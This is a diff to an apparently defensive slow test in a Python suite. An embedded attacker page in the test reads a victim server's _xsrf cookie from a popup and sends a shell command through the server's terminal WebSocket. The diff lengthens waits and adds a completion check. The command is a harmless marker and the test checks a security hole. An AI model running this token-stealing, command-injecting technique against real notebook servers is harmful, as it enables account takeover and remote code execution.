@@ -7,7 +7,7 @@ import pytest
 
 from .conftest import Desk, Hub, free_port, running_hub
 
-pytestmark = pytest.mark.slow
+pytestmark = [pytest.mark.slow, pytest.mark.timeout(1500)]
 
 EXTENSION = """
 from pathlib import Path
@@ -41,7 +41,7 @@ document.querySelector("button").onclick = async () => {
     const popup = window.open(victim + "/api/status");
     let token = "none";
     await attempt("token", async () => {
-        for (let i = 0; i < 50 && token === "none"; i++) {
+        for (let i = 0; i < 600 && token === "none"; i++) {
             await sleep(0.1);
             token = (popup.document.cookie.match(/_xsrf=([^;]+)/) || [0, "none"])[1];
         }
@@ -65,11 +65,12 @@ document.querySelector("button").onclick = async () => {
     await attempt("command", () => new Promise((resolve, reject) => {
         const socket = new WebSocket(victim.replace("http", "ws") + "/terminals/websocket/" + (done.name || 1));
         socket.onerror = () => reject("refused");
-        socket.onmessage = async () => {
-            socket.onmessage = null;
-            socket.send(JSON.stringify(["stdin", "id -un > ~/taken; sync\r"]));
-            await sleep(2);
-            resolve("typed");
+        let shown = "", typed = false;
+        socket.onmessage = event => {
+            shown += JSON.parse(event.data)[1];
+            if (!typed) socket.send(JSON.stringify(["stdin", "id -un > ~/taken; sync; echo all' 'done\r"]));
+            typed = true;
+            if (shown.includes("all done")) resolve("typed");
         };
     }));
     await attempt("frame", () => new Promise(resolve => {
